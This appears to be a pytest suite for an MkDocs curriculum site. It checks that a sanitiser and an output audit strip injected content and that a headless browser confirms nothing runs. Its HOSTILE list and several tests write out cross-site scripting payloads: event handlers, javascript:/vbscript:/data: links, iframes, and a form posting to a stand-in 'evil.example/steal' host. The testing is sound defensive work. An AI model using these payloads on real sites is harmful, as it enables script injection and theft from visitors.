"""The output guarantee: the sanitiser on every page's content and the audit of the built site.

The source checks (tests/test_safety.py) tell authors what to fix. These tests assume a gap in
them: a test-only hook pushes hostile Markdown and HTML straight into the pages, past every
source check, and the built site must still carry no live code and load nothing from elsewhere.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from browser import chromium_page
from conftest import curriculum
from kurikulum.audit import audit_html, audit_site
from kurikulum.sanitize import Sanitizer
from sitekit import make_site, mkdocs_build

HOSTILE = [
    "**Penting**{ x tabindex=0 autofocus onfocus=alert(document.domain) }",
    "[basis data](https://globaldatabase.ecpat.org/){onclick=alert(1)}",
    "> [r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n> lihat [di sini][r]",
    "- [r2]: javascript:alert(1)\n\n[klik][r2]",
    '!!! note "Kotak"\n    [r3]: vbscript:msgbox\n\n    [kotak][r3]',
    "![x](https://evil.example/pixel.png)",
    "![y][img]\n\n[img]: https://evil.example/ref.png",
    "<script>alert('script')</script>",
    '<div onmouseover="alert(1)">arahkan</div>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example/steal"><input name="q"></form>',
    '<svg><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(2)">m</mi></math>',
    '<a href="jav&#x09;ascript:alert(3)">tab</a> <a href=" &#x01;javascript:alert(4)">ctl</a>',
    '<a href="http://evil.example/">http</a> <a href="//evil.example/p">proto</a>',
    '<a href="https://g\u043e\u043egle.com/">look-alike</a>',
    '<details open ontoggle="alert(5)"><summary>s</summary>d</details>',
    '<img src="x" onerror="alert(6)"> <style>body{display:none}</style>',
    '<p id="__config">clobber</p> <a href="#top" style="position:fixed">styled</a>',
    "teks \u202egnp.exe \u200btersembunyi",
]


def _article(html: str) -> str:
    return f"<html><body><article>{html}</article></body></html>"


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitised_fragment_passes_the_audit(payload):
    import markdown

    html = markdown.markdown(payload, extensions=["attr_list", "admonition", "md_in_html", "tables"])
    cleaned, _ = Sanitizer().clean(html)
    assert audit_html(_article(cleaned), "page.html") == []
    for word in ("evil.example", "alert", "\u202e", "\u200b", "__config", "style="):
        assert word not in cleaned


def test_what_the_templates_need_survives():
    html = (
        '<h2 id="agenda">Agenda<a class="headerlink" href="#agenda" title="Permanent link">¶</a></h2>'
        '<div class="admonition warning"><p class="admonition-title">Hati-hati</p><p>isi</p></div>'
        '<table class="write-table"><thead><tr><th rowspan="2">A</th></tr></thead></table>'
        '<p><a href="https://www.kemenpppa.go.id/">KemenPPPA</a> <a href="mailto:a@b.id">surel</a> '
        '<a href="tel:129">129</a> <a href="../sesi/opening.html#tujuan">sesi</a> '
        '<a class="md-button" download href="../unduhan/id/a.pdf">PDF</a></p>'
        '<button class="md-button" type="button" data-print>Cetak</button>'
        '<figure class="results-chart"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" '
        'role="img" aria-label="grafik"><rect class="bar-pre" x="1" y="2" width="3" height="4"></rect>'
        '<text x="1" y="2" text-anchor="end">q01</text></svg></figure>'
        '<img src="../assets/images/logo.png" alt="logo">'
    )
    cleaned, removed = Sanitizer().clean(html)
    assert removed == []
    for kept in (
        'id="agenda"',
        'class="admonition warning"',
        'rowspan="2"',
        'href="https://www.kemenpppa.go.id/"',
        'href="mailto:a@b.id"',
        'href="tel:129"',
        'href="../sesi/opening.html#tujuan"',
        "download",
        "data-print",
        'viewBox="0 0 10 10"',
        'text-anchor="end"',
        'src="../assets/images/logo.png"',
    ):
        assert kept in cleaned, kept


def test_http_is_allowed_only_to_the_site_itself():
    html = (
        '<a href="http://pelatihan.example.org/x.html">own</a><a href="http://other.example.org/">other</a>'
    )
    cleaned, removed = Sanitizer("pelatihan.example.org").clean(html)
    assert 'href="http://pelatihan.example.org/x.html"' in cleaned
    assert "other.example.org" not in cleaned and len(removed) == 1


def test_audit_finds_each_kind_of_unsafe_output():
    page = (
        '<html><head><script>alert(1)</script><link rel="stylesheet" href="https://evil.example/x.css">'
        '</head><body><article><p onclick="x">a</p><img src="https://evil.example/p.png">'
        '<a href="javascript:alert(1)">j</a><a href="vbscript:x">v</a><a href="data:text/html,x">d</a>'
        "<p>\u202ebalik</p></article><iframe src=x></iframe>"
        '<script src="https://cdn.example/x.js"></script></body></html>'
    )
    found = " | ".join(f.what for f in audit_html(page, "p.html"))
    for expected in (
        "inline script `alert(1)`",
        "loads https://evil.example/x.css from another host",
        "event handler `onclick` on <p>",
        "<img src> loads https://evil.example/p.png",
        "`javascript:` link",
        "`vbscript:` link",
        "`data:` link",
        "\\u202e",
        "<iframe> element",
        "script from outside the site: https://cdn.example/x.js",
    ):
        assert expected in found, (expected, found)


def _bypass_hook(folder: Path) -> Path:
    """A test-only hook that puts hostile text into every generated page, past all source checks."""
    hook = folder / "inject_hostile.py"
    payloads = "\n\n".join(HOSTILE)
    hook.write_text(
        "from mkdocs.plugins import event_priority\n"
        f"PAYLOAD = {payloads!r}\n"
        "@event_priority(-200)\n"
        "def on_page_markdown(markdown, page, config, files):\n"
        "    return markdown + '\\n\\n' + PAYLOAD + '\\n'\n",
        encoding="utf-8",
    )
    config = folder / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("hooks:\n", f"hooks:\n  - {hook}\n"), encoding="utf-8"
    )
    return folder


@pytest.fixture(scope="module")
def bypassed_site(tmp_path_factory) -> tuple[Path, str]:
    site = _bypass_hook(make_site("mini", tmp_path_factory.mktemp("bypass")))
    done = mkdocs_build(site)
    assert done.returncode == 0, done.stderr
    return site / "site", done.stderr


def test_plain_mkdocs_build_publishes_no_live_code_even_past_the_source_checks(bypassed_site):
    site, log = bypassed_site
    assert audit_site(site) == []
    assert "the sanitiser removed" in log
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "evil.example" not in text and "alert(" not in text, page


def test_strict_build_fails_when_the_sanitiser_had_to_remove_something(tmp_path):
    site = _bypass_hook(make_site("mini", tmp_path))
    done = mkdocs_build(site, "--strict")
    assert done.returncode == 1
    assert "the sanitiser removed" in done.stderr


def test_hostile_pages_run_nothing_and_request_nothing_in_chromium(bypassed_site):
    site, _ = bypassed_site
    dialogs, outside = [], []
    with chromium_page() as page:
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith("file:") else None)
        for rel in ("index.html", "en/index.html", "sesi/intro.html", "kasus/case-a.html", "about.html"):
            page.goto((site / rel).as_uri())
            page.mouse.move(200, 300)
            page.keyboard.press("Tab")
            page.wait_for_timeout(150)
    assert dialogs == []
    assert outside == []


def test_unsafe_theme_output_stops_the_build(tmp_path):
    """A template that produced unsafe HTML (simulated in a copy of the theme) stops the build."""
    site = make_site("mini", tmp_path)
    overrides = tmp_path / "theme"
    shutil.copytree(Path(__file__).resolve().parents[1] / "overrides", overrides)
    (overrides / "main.html").write_text(
        '{% extends "base.html" %}\n{% block footer %}<p onmouseover="alert(1)">x</p>{% endblock %}\n',
        encoding="utf-8",
    )
    config = site / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text.replace(text.split("custom_dir: ")[1].split("\n")[0], str(overrides)), encoding="utf-8"
    )
    done = mkdocs_build(site)
    assert done.returncode == 1
    assert "unsafe output: event handler `onmouseover` on <p>" in done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    left = [p for p in (site / "site").rglob("*.html") if "onmouseover" in p.read_text(encoding="utf-8")]
    assert left == [], "pages with a finding must be deleted from the output"
    single = mkdocs_build(site, env={"CURRICULUM_AUDIT_WORKERS": "0"})
    assert (
        single.returncode == 1
        and "unsafe output: event handler `onmouseover`" in single.stdout + single.stderr
    )
    built = curriculum("build", "--no-pdf", cwd=site)
    assert built.returncode == 1 and "unsafe output: event handler `onmouseover`" in built.stderr
    assert "site/ was not changed" in built.stderr and not (site / "site" / "index.html").exists()


def test_audit_reads_the_search_index(tmp_path):
    """The search indexes are scripts: only the data kurikulum/search.py writes may be in them,
    and their texts (shown as plain text) carry no invisible characters."""
    from kurikulum.search import PREFIX, SUFFIX

    (tmp_path / "search").mkdir()
    (tmp_path / "search" / "id.js").write_text(
        PREFIX + '{"pages": [["a.html", "A\u202e"]], "docs": [[0, "", "A", "teks"]], "terms": {}}' + SUFFIX,
        encoding="utf-8",
    )
    (tmp_path / "search" / "en.js").write_text(PREFIX + "{}); alert(1); (" + SUFFIX, encoding="utf-8")
    found = [f.text() for f in audit_site(tmp_path)]
    assert len(found) == 2
    assert found[0].startswith("search/en.js:0: unsafe output: not a search index")
    assert "invisible formatting character `\\u202e`" in found[1] and found[1].startswith("search/id.js")
